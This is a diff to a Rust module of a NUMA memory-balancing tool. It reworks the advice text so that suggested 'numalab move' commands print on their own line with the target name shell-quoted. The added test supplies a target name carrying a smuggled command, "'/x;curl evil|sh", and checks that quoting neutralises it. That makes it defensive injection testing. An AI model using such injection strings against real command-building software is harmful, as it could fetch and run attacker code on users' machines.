@@ -1,8 +1,9 @@
 //! What NUMA balancing did to shared memory, as text and as the document `numalab.balance/1`.
 
-use model::{BalanceEnd, BalanceReport, BalanceSample, BalancedSegment, ByteSize};
+use model::{BalanceEnd, BalanceReport, BalanceSample, BalancedSegment, ByteSize, shell_word};
 use serde::Serialize;
 
+use crate::advice::Advice;
 use crate::node_table::{NodeRow, node_table};
 use crate::run_figures::whole;
 use crate::run_plain::{plain, plain_within};
@@ -50,8 +51,8 @@ pub fn balance_text(report: &BalanceReport, options: &TextOptions) -> String {
     if report.is_kept {
         say(KEPT, Style::Care);
     }
-    if let Some(sentence) = next(report) {
-        say(&sentence, Style::Care);
+    if let Some(advice) = next(report) {
+        text.push_str(&advice.text("", Style::Care, options));
     }
     text.push('\n');
     text.push_str(&segments(report, options));
@@ -95,38 +96,38 @@ fn outcome(report: &BalanceReport) -> String {
 }
 
 /// What to do next.
-fn next(report: &BalanceReport) -> Option<String> {
-    let target = plain(&report.target);
+fn next(report: &BalanceReport) -> Option<Advice> {
+    let mover = |to: &str| {
+        let target = shell_word(&report.target);
+        format!("numalab move {target} --shared --to {to}")
+    };
+    let spread = |why: String| Some(Advice::paste(why, mover("interleave")));
     match report.end {
-        BalanceEnd::PingPong => Some(format!(
+        BalanceEnd::PingPong => spread(
             "several nodes use the same pages, which cannot be near to all of them: `numalab undo` \
-             takes them back, `numalab move {target} --shared --to interleave` spreads them"
-        )),
-        BalanceEnd::TimeOver if still_moved(report) => Some(format!(
-            "pages were still moving: run it again with a longer --for, or spread them with \
-             `numalab move {target} --shared --to interleave`"
-        )),
-        BalanceEnd::TimeOver => Some(format!(
+             takes them back, and this spreads them:"
+                .to_owned(),
+        ),
+        BalanceEnd::TimeOver if still_moved(report) => spread(
+            "pages were still moving: run it again with a longer --for, or spread them:".to_owned(),
+        ),
+        BalanceEnd::TimeOver => Some(Advice::words(format!(
             "the time was too short to tell whether pages have settled, which takes {:.0} s \
              without a change: run it again with a --for well above that",
             report.settled_after_s
-        )),
+        ))),
         _ if !report.segments.is_empty() && report.segments.iter().all(is_of_one_node) => {
-            Some(format!(
-                "only the CPUs of one node may use it: `numalab move {target} --shared --to \
-                 near-cpus` moves all of it there at once"
-            ))
+            let why = "only the CPUs of one node may use it; this moves all of it there at once:";
+            Some(Advice::paste(why, mover("near-cpus")))
         }
         BalanceEnd::Settled => {
             let remote = 1.0 - BalanceReport::local_share(&last_samples(report))?;
-            (remote > REMOTE_SHARE).then(|| {
-                format!(
-                    "{:.0} % of the hint faults are still on other nodes: several nodes use the \
-                     same pages, and `numalab move {target} --shared --to interleave` would give \
-                     each the same share",
-                    remote * 100.0
-                )
-            })
+            let why = format!(
+                "{:.0} % of the hint faults are still on other nodes: several nodes use the same \
+                 pages, and this would give each the same share:",
+                remote * 100.0
+            );
+            (remote > REMOTE_SHARE).then(|| spread(why)).flatten()
         }
         _ => None,
     }
@@ -312,7 +313,7 @@ mod tests {
              the first 10 s, 75 % in the last",
         ];
         check(&outcome(BalanceEnd::Settled), &parts);
-        let advice = ["`numalab move postgres:/data --shared --to interleave` spreads them"];
+        let advice = ["this spreads them:\n  numalab move postgres:/data --shared --to interleave"];
         check(&outcome(BalanceEnd::PingPong), &advice);
     }
 
@@ -346,8 +347,29 @@ mod tests {
         plan.segments[0].near_nodes = "1".parse().unwrap();
         check(
             &plan,
-            &["`numalab move postgres:/data --shared --to near-cpus` moves all of it"],
+            &["it there at once:\n  numalab move postgres:/data --shared --to near-cpus"],
         );
+    }
+
+    #[test]
+    fn a_hostile_name_is_one_word_of_the_command_on_one_line() {
+        let name = format!("postgres:/tmp/{}'/x;curl evil|sh", "a".repeat(100));
+        let quoted = format!(
+            "\n  numalab move 'postgres:/tmp/{}'\"'\"'/x;curl evil|sh' --shared --to ",
+            "a".repeat(100)
+        );
+        let mut near = plan();
+        near.segments[0].near_nodes = "1".parse().unwrap();
+        let mut moving = outcome(BalanceEnd::TimeOver);
+        moving.samples[0].pages_changed = 7;
+        moving.samples[1].pages_changed = 7;
+        let mut remote = outcome(BalanceEnd::Settled);
+        remote.samples[1].hint_faults_local = 1001;
+        for mut report in [near, moving, remote, outcome(BalanceEnd::PingPong)] {
+            report.target.clone_from(&name);
+            let text = balance_text(&report, &TextOptions::default());
+            assert!(text.contains(&quoted), "{text}");
+        }
     }
 
     #[test]
